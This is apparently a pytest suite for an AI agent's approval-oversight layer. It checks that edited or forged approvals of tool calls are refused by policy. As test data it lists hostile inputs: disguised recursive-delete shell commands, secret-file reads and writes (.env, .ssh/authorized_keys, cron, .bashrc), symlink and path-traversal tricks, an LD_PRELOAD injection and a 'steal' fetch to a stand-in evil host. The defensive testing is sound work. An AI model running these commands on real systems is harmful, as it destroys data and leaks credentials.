"""Attacks on edited approvals: an edit is a new call, decided by the policy again.

An approver (careless, or hostile) edits a harmless call's arguments into something the policy
denies; a client writes the decision row itself. Each edit must be refused when it is decided
(with a message naming why) AND, if a decision row slips past that, when the worker is about to
run it (fail closed). Every execution test checks the real side effect, not only the record.
"""

from __future__ import annotations

import os

import pytest

import storage
from agent_core.models.scripted import ScriptedModel
from agent_core.oversight.decisions import DecisionError, approve
from agent_core.oversight.policy import Policy, Rule
from agent_core.oversight.policy_file import default_policy_text, parse_policy
from agent_core.tools import args_hash, builtin_tools
from tests.support.dashboard_seed import make_approval
from tests.support.run_helpers import Driver, events_of, new_run, wait_for

DEFAULT = parse_policy(default_policy_text(), source="defaults")
EVIL = Rule(
    tool="fetch_url", domains=["evil.test", "*.evil.test"], action="deny", name="no evil hosts"
)
POLICY = Policy(rules=[*DEFAULT.rules, EVIL])
needs_sandbox = pytest.mark.usefixtures("sandbox_required")

WRITE = ("write_file", {"path": "notes.txt", "content": "hello"}, "medium")
SHELL = ("run_shell", {"command": "ls"}, "high")
FETCH = ("fetch_url", {"url": "http://127.0.0.1:9/page"}, "medium")
DELETE = ("delete_files", {"paths": ["scratch.tmp"]}, "high")


@pytest.fixture
def folder(tmp_path):
    """A workspace with a secret, a data folder, and links that lead to the secret and outside."""
    root = tmp_path / "ws"
    (root / "data").mkdir(parents=True)
    (root / "data" / "keep.txt").write_text("keep")
    (root / ".env").write_text("TOKEN=secret")
    (root / "scratch.tmp").write_text("x")
    os.symlink(".env", root / "settings.txt")  # an innocent name for the secret
    os.symlink(str(tmp_path), root / "up")  # a folder link out of the workspace
    return root


def asked(store, folder, call, policy: Policy = POLICY):
    """A run in `folder` waiting on an approval of `call` (tool, arguments, risk)."""
    tool, arguments, risk = call
    run = new_run(store, "edit attacks", policy=policy, workspace=str(folder), model="scripted")
    return make_approval(store, run, tool=tool, arguments=arguments, risk=risk, summary=tool)


# -- at decision time: the edit is refused, nothing is written -----------------------------------

DENIED_EDITS = [
    # paths: a secret, its spellings, leaving the workspace, a link to the secret or out
    (WRITE, {"path": ".env", "content": "x"}, "secret"),
    (WRITE, {"path": "./.env/.", "content": "x"}, "secret"),
    (WRITE, {"path": "app/../.env", "content": "x"}, "outside"),
    (WRITE, {"path": "../x.txt", "content": "x"}, "outside"),
    (WRITE, {"path": "/etc/cron.d/x", "content": "x"}, "outside"),
    (WRITE, {"path": "~/.bashrc", "content": "x"}, "outside"),
    (WRITE, {"path": "settings.txt", "content": "x"}, "secret"),
    (WRITE, {"path": "up/owned.txt", "content": "x"}, "outside"),
    (WRITE, {"path": ".ssh/authorized_keys", "content": "x"}, "secret"),
    (WRITE, {"path": "deploy/id_rsa", "content": "x"}, "secret"),
    (WRITE, {"path": ".ENV", "content": "x"}, "secret"),
    (WRITE, {"path": "\uff0eenv", "content": "x"}, "secret"),  # fullwidth full stop
    (DELETE, {"paths": ["scratch.tmp", ".env"]}, "secret"),
    # shell: a recursive delete however it is hidden, or a secret read
    (SHELL, {"command": "rm -r data"}, "recursive"),
    (SHELL, {"command": "echo $(rm -rf data)"}, "recursive"),
    (SHELL, {"command": "ls; rm -fR data"}, "recursive"),
    (SHELL, {"command": "ls && bash -c 'rm --recursive data'"}, "recursive"),
    (SHELL, {"command": 'sh -c "find . -delete"'}, "recursive"),
    (SHELL, {"command": "true || `git clean -fdx`"}, "recursive"),
    (SHELL, {"command": "/bin/rm -r -f data"}, "recursive"),
    (SHELL, {"command": "cat .env"}, "secret"),
    (SHELL, {"command": "cp settings.txt leak.txt"}, "secret"),
    # fetch: a denied host in any spelling
    (FETCH, {"url": "https://evil.test/x"}, "no evil hosts"),
    (FETCH, {"url": "https://EVIL.TEST./x"}, "no evil hosts"),
    (FETCH, {"url": "https://user:pw@evil.test/"}, "no evil hosts"),
    (FETCH, {"url": "http://a.b.evil.test:8443/?q=1"}, "no evil hosts"),
    (FETCH, {"url": "https://evil.test#@127.0.0.1/"}, "no evil hosts"),
]


@pytest.mark.parametrize(("call", "edited", "why"), DENIED_EDITS)
def test_an_edit_into_a_denied_call_is_refused_when_decided(store, folder, call, edited, why):
    approval = asked(store, folder, call)
    with pytest.raises(DecisionError) as refused:
        approve(store, approval_id=approval.id, by="mallory", edited_arguments=edited)
    message = str(refused.value)
    assert "denies the edited call" in message and why in message.lower(), message
    assert "Traceback" not in message and str(folder) not in message
    row = storage.get_approval(store, approval_id=approval.id)
    assert row.status == "pending" and row.edited_arguments is None  # nothing written


BAD_SHAPES = [
    (WRITE, {"command": "rm -r data"}),  # run_shell's shape
    (WRITE, {"paths": [".env"]}),  # delete_files' shape
    (WRITE, {"path": "a.txt", "content": "x", "mode": "0777"}),  # an extra key
    (WRITE, {"path": ["a.txt", ".env"], "content": "x"}),  # a list where a path goes
    (FETCH, {"url": "https://ok.test/", "headers": {"X": "1"}}),
    (SHELL, {"command": "ls", "env": {"LD_PRELOAD": "/tmp/x.so"}}),
]


@pytest.mark.parametrize(("call", "edited"), BAD_SHAPES)
def test_an_edit_into_another_shape_or_with_extra_keys_is_refused(store, folder, call, edited):
    approval = asked(store, folder, call)
    with pytest.raises(DecisionError, match="do not fit"):
        approve(store, approval_id=approval.id, by="mallory", edited_arguments=edited)
    assert storage.get_approval(store, approval_id=approval.id).status == "pending"


def test_an_edit_the_policy_would_allow_or_ask_is_approved_and_pinned(store, folder):
    approval = asked(store, folder, WRITE)
    edited = {"path": "report.md", "content": "fine"}
    done = approve(store, approval_id=approval.id, by="carol", edited_arguments=edited)
    assert done.edited_arguments == edited and done.approved_hash == args_hash(edited)


@pytest.mark.parametrize("scope", ["call", "arguments"])
def test_an_edit_cannot_also_allow_for_the_rest_of_the_run(store, folder, scope):
    approval = asked(store, folder, WRITE)
    edited = {"path": "report.md", "content": "fine"}
    with pytest.raises(DecisionError, match="rest of the run"):
        approve(
            store,
            approval_id=approval.id,
            by="carol",
            edited_arguments=edited,
            allow_scope=scope,  # type: ignore[arg-type]
        )
    assert storage.get_approval(store, approval_id=approval.id).status == "pending"


# -- at execution time: a decision row written by any client ------------------------------------


def driven(store, folder, call, *, policy: Policy = POLICY):
    """A real run in `folder` whose model makes `call` and then says done; (run, driver, pending)."""
    tool, arguments, _risk = call
    model = ScriptedModel([{"tool_calls": [{"name": tool, "arguments": arguments}]}, "done"])
    run = new_run(store, "edit attacks", policy=policy, workspace=str(folder), model="scripted")
    driver = Driver(store, run, model).start()
    return run, driver, driver.pending()


def forge(store, approval, edited: dict, **extra) -> None:
    """The decision row as a raw store write: edited arguments pinned by their own hash."""
    edited = builtin_tools()[approval.tool].validate(edited)  # defaults filled, as would run
    storage.decide_approval(
        store,
        approval_id=approval.id,
        decision="approved",
        decided_by="raw-writer",
        edited_arguments=edited,
        approved_hash=args_hash(edited),
        **extra,
    )


RAW_WRITES = [
    (WRITE, {"path": ".env", "content": "TOKEN=pwned"}),
    (WRITE, {"path": "settings.txt", "content": "TOKEN=pwned"}),
    (WRITE, {"path": "up/owned.txt", "content": "pwned"}),
    (WRITE, {"path": "../owned.txt", "content": "pwned"}),
    (WRITE, {"path": ".ssh/authorized_keys", "content": "pwned"}),
    (DELETE, {"paths": ["scratch.tmp", ".env"]}),
]


@pytest.mark.parametrize(("call", "edited"), RAW_WRITES)
def test_a_forged_edit_the_policy_denies_never_runs(store, folder, tmp_path, call, edited):
    run, driver, pending = driven(store, folder, call)
    forge(store, pending, edited)
    driver.join()
    result = events_of(store, run.id, "tool_result")[0].payload
    assert result["outcome"] == "denied" and "edited" in result["output"], result
    assert (folder / ".env").read_text() == "TOKEN=secret"
    assert not (tmp_path / "owned.txt").exists() and not (folder / ".ssh").exists()
    assert (folder / "scratch.tmp").exists()  # the delete did not run even for its fine part
    assert not events_of(store, run.id, "tool_started")
    decided = events_of(store, run.id, "approval_decided")[0].payload
    assert decided["edited"] is True and decided["edit"]["verdict"] == "deny"


@needs_sandbox
@pytest.mark.parametrize(
    "command",
    ["rm -r data", "echo $(rm -rf data)", "ls; rm -fR data", "bash -c 'rm --recursive data'"],
)
def test_a_forged_shell_edit_the_policy_denies_never_runs(store, folder, command):
    run, driver, pending = driven(store, folder, SHELL)
    forge(store, pending, {"command": command})
    driver.join()
    result = events_of(store, run.id, "tool_result")[0].payload
    assert result["outcome"] == "denied", result
    assert (folder / "data" / "keep.txt").read_text() == "keep"


def test_a_forged_fetch_edit_to_a_denied_host_never_runs(store, folder, network_guard):
    run, driver, pending = driven(store, folder, FETCH)
    forge(store, pending, {"url": "https://EVIL.test./steal?k=1"})
    driver.join()
    result = events_of(store, run.id, "tool_result")[0].payload
    assert result["outcome"] == "denied" and "no evil hosts" in result["output"], result
    assert not network_guard.blocked  # nothing even tried to connect


def test_a_forged_edit_with_allow_for_the_run_runs_nothing_and_allows_nothing(store, folder):
    """An edit combined with 'allow for the rest of the run', written raw: fail closed."""
    model = ScriptedModel(
        [
            {
                "tool_calls": [
                    {"name": "write_file", "arguments": {"path": "a.txt", "content": "1"}}
                ]
            },
            {
                "tool_calls": [
                    {"name": "write_file", "arguments": {"path": "b.txt", "content": "2"}}
                ]
            },
            "done",
        ]
    )
    run = new_run(store, "edit attacks", policy=POLICY, workspace=str(folder), model="scripted")
    driver = Driver(store, run, model).start()
    first = driver.pending()
    forge(store, first, {"path": "c.txt", "content": "3"}, allow_scope="tool")
    second = wait_for(
        lambda: [a for a in storage.pending_approvals(store, run_id=run.id) if a.id != first.id],
        what="the next call to ask again",
    )[0]
    storage.decide_approval(
        store, approval_id=second.id, decision="rejected", decided_by="carol", note="stop"
    )
    driver.join()
    assert not (folder / "c.txt").exists() and not (folder / "b.txt").exists()
    verdicts = [e.payload["verdict"] for e in events_of(store, run.id, "tool_call")]
    assert verdicts == ["ask", "ask"]
    first_result = events_of(store, run.id, "tool_result")[0].payload
    assert first_result["outcome"] == "denied" and "rest of the run" in first_result["output"]


def test_an_edit_approved_at_decision_time_runs_and_the_event_says_what_changed(store, folder):
    run, driver, pending = driven(store, folder, WRITE)
    edited = {"path": "report.md", "content": "edited"}
    approve(store, approval_id=pending.id, by="carol", edited_arguments=edited)
    driver.join()
    assert (folder / "report.md").read_text() == "edited"
    decided = events_of(store, run.id, "approval_decided")[0].payload
    assert decided["edited"] is True
    edit = decided["edit"]
    assert edit["verdict"] == "ask" and edit["reason"] == "medium-risk tool in supervised mode"
    assert 'path: "notes.txt" → "report.md"' in edit["changes"]
    assert 'content: "hello" → "edited"' in edit["changes"]
